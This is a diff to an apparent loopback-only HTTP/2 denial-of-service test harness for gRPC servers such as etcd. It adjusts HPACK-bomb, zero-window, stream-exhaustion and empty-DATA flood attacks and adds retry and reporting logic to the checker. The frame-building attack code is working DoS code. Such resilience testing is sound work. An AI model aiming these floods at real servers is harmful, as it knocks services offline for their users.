@@ -33,6 +33,15 @@ Attacks (--attacks takes a comma-separated list of these names, or all):
     window-update-flood  WINDOW_UPDATE (increment 1) on stream 0 and on an open stream
     stream-exhaustion    as many Put streams opened (HEADERS only) and never finished as possible
 
+To keep the machine running the script sets itself bounds a real attacker would not: it holds at
+most 1000 unfinished 1 MiB bodies (unending-bodies) and 10,000 streams (zero-window,
+stream-exhaustion) on one connection; each is far past what a server should hold.
+
+Reading the memory figures: attacks run one after another against the same server, and a server
+that keeps the memory it grew in one attack (a garbage-collected heap, say) shows less growth in
+the next; the checker's own puts grow a server a little too (etcd 3.4: about 2 MB a second at
+first). For a clean figure, run one attack at a time against a fresh server.
+
 Only loopback targets are accepted (127.0.0.0/8, ::1): nothing here may be aimed anywhere else.
 Frames are written as raw bytes with socket and struct; no third-party package is needed. The
 script always stops by itself: each attack at its time limit, the whole run at
@@ -224,6 +233,11 @@ class CallFailed(Exception):
     pass
 
 
+class Unprocessed(CallFailed):
+    """The server says it never started the call (a GOAWAY below its stream, or REFUSED_STREAM):
+    gRPC clients retry those on a new connection, and so does the checker, once."""
+
+
 class UnaryClient:
     """A small, correct HTTP/2 gRPC client: preface and SETTINGS, acks the server's SETTINGS and
     PINGs, gives back window for what it reads, respects the server's windows when it sends, and
@@ -267,7 +281,7 @@ class UnaryClient:
             self.reader.feed(data)
 
     def _handle(self, ftype, flags, stream, payload):
-        """Answers what the connection asks of us; returns the frame for the caller to look at."""
+        """Answers what the connection asks of us (acks, window) and notes windows and GOAWAY."""
         if ftype == SETTINGS and not flags & ACK:
             for i in range(0, len(payload) - 5, 6):
                 ident, value = struct.unpack_from(">HI", payload, i)
@@ -314,17 +328,29 @@ class UnaryClient:
                 self._handle(*f)
                 self._check_goaway(stream)
                 if ftype == RST_STREAM and s == stream:
-                    raise CallFailed(f"RST_STREAM {error_name(struct.unpack('>I', payload[:4])[0])}")
+                    self._reset(payload)
 
     def _check_goaway(self, stream):
         if self.goaway_last is not None and self.goaway_last[0] < stream:
-            raise CallFailed(f"GOAWAY {self.goaway_last[1]}")
+            raise Unprocessed(f"GOAWAY {self.goaway_last[1]}")
+
+    @staticmethod
+    def _reset(payload):
+        code = error_name(struct.unpack(">I", payload[:4])[0])
+        raise (Unprocessed if code == "REFUSED_STREAM" else CallFailed)(f"RST_STREAM {code}")
 
     def call(self, path, body, deadline):
-        """One unary call; returns the answer's DATA payloads. Raises CallFailed. The answer is a
-        success when it ends (END_STREAM) after a DATA frame holding a length-prefixed message:
-        a gRPC error is a trailers-only answer, with no DATA. (The server's header blocks may be
-        Huffman-coded or indexed, so grpc-status is not decoded.)"""
+        """One unary call; returns the answer's DATA payloads. Raises CallFailed. A call the
+        server never started is tried once more on a new connection, within the same deadline."""
+        try:
+            return self._call(path, body, deadline)
+        except Unprocessed:
+            return self._call(path, body, deadline)
+
+    def _call(self, path, body, deadline):
+        """The answer is a success when it ends (END_STREAM) after a DATA frame holding a
+        length-prefixed message: a gRPC error is a trailers-only answer, with no DATA. (The
+        server's header blocks may be Huffman-coded or indexed, so grpc-status is not decoded.)"""
         if self.sock is not None and self.goaway_last is not None:
             self.close()  # the server is going away: a real client moves to a new connection
         try:
@@ -344,7 +370,7 @@ class UnaryClient:
                 if s != stream:
                     continue
                 if ftype == RST_STREAM:
-                    raise CallFailed(f"RST_STREAM {error_name(struct.unpack('>I', payload[:4])[0])}")
+                    self._reset(payload)
                 if ftype == DATA:
                     answer.append(payload)
                 if flags & END_STREAM and ftype in (DATA, HEADERS):
@@ -829,7 +855,7 @@ def unending_bodies(att):
 
 
 def seed_zero_window(endpoint):
-    ok, why = unary_put(endpoint, ZERO_WINDOW_KEY, b"z" * 100_000, 5.0)
+    ok, why = unary_put(endpoint, ZERO_WINDOW_KEY, b"z" * 100_000, 3.0)
     if not ok:
         print(f"zero-window: could not put the 100 kB value first ({why}); attacking anyway", flush=True)
 
@@ -850,10 +876,10 @@ def zero_window(att):
             att.idle(c)  # enough answers held for one connection: keep them held
             continue
         out = []
-        for _ in range(32):
+        for _ in range(min(32, HELD_STREAMS_MAX - c.streams_opened)):
             stream = c.new_stream()
             out.append(frame(HEADERS, END_HEADERS, stream, call) + frame(DATA, END_STREAM, stream, body))
-        att.send(c, b"".join(out), 64)
+        att.send(c, b"".join(out), 2 * len(out))
 
 
 def rapid_reset(att):
@@ -888,23 +914,29 @@ def continuation_flood(att):
 
 
 def hpack_bomb(att):
+    # Each block carries a whole small put (a DATA after it), so the server answers and ends the
+    # stream: what it pays for is decoding the block. (etcd 3.4 never answers a bodiless call.)
     call = request_block(PUT_PATH, att.authority)
+    body = grpc_message(put_request(b"attack-front/hpack-bomb", b"x"))
     bomb = call + b"\xbe" * 1000  # 0xBE = index 62, the newest dynamic entry
+
+    def put(stream, block):
+        return frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body)
+
     while att.running():
         c = att.connection()
         if c is None or not att.ready(c):
             continue
         if "primed" not in c.state:
+            # 0x40: literal with incremental indexing, so the header enters the dynamic table.
             # An entry costs name + value + 32 bytes of the table (RFC 7541 4.1): fill it.
             room = c.server[HEADER_TABLE_SIZE] - 32 - len(b"x-bomb")
             value = b"b" * max(1, min(4000, room))
-            stream = c.new_stream()
-            att.send(c, frame(HEADERS, END_HEADERS | END_STREAM, stream, call + literal(b"x-bomb", value, indexed=True)))
+            att.send(c, put(c.new_stream(), call + literal(b"x-bomb", value, indexed=True)), 2)
             c.state["primed"] = True
             continue
         # Each block names the 4 KB header a thousand times: 4 MB decoded from 1 KB sent.
-        out = [frame(HEADERS, END_HEADERS | END_STREAM, c.new_stream(), bomb) for _ in range(16)]
-        att.send(c, b"".join(out), 16)
+        att.send(c, b"".join(put(c.new_stream(), bomb) for _ in range(16)), 32)
 
 
 def rst_flood(att):
@@ -939,7 +971,6 @@ def empty_data_flood(att):
         stream = c.state.get("stream")
         if stream is None or stream in c.closed:
             stream = c.state["stream"] = c.new_stream(track=True)
-            c.closed.discard(stream)
             att.send(c, frame(HEADERS, END_HEADERS, stream, call))  # a Put whose body never comes
         att.send(c, frame(DATA, 0, stream) * BATCH, BATCH)
 
@@ -964,11 +995,12 @@ def stream_exhaustion(att):
         c = att.connection()
         if c is None or not att.ready(c):
             continue
-        if c.streams_opened - c.streams_ended >= HELD_STREAMS_MAX:
+        held = c.streams_opened - c.streams_ended
+        if held >= HELD_STREAMS_MAX:
             att.idle(c)  # as many held as this script allows itself: keep holding them
             continue
-        out = [frame(HEADERS, END_HEADERS, c.new_stream(), call) for _ in range(64)]
-        att.send(c, b"".join(out), 64)
+        out = [frame(HEADERS, END_HEADERS, c.new_stream(), call) for _ in range(min(64, HELD_STREAMS_MAX - held))]
+        att.send(c, b"".join(out), len(out))
 
 
 # name -> (attack, does the attacking connection read, SETTINGS it sends, setup before the clock)
@@ -1048,8 +1080,9 @@ def run_attack(name, args, target, endpoints):
     print(f"{name}: {elapsed:.1f} s, {att.opened} connection(s) opened, {describe_ends(att)}, {rss}, "
           f"puts {checker.ok} ok, {checker.failed} failed, slowest {slowest}"
           f"{'' if passed else '  FAILED'}")
-    details = [f"{att.frames_sent} frames sent", f"throttled {att.throttled:.1f} s",
-               f"{att.streams_opened} streams opened"]
+    details = [f"{att.frames_sent} frames written", f"{att.throttled:.1f} s waiting on the server (throttled)",
+               f"{att.streams_opened} streams opened"
+               + (f", {att.streams_ended} ended by the server" if att.reads and att.streams_opened else "")]
     if att.resets:
         details.append("server reset " + ", ".join(f"{k} {v}x" for k, v in att.resets.most_common()))
     for code, text in att.goaway_texts.items():
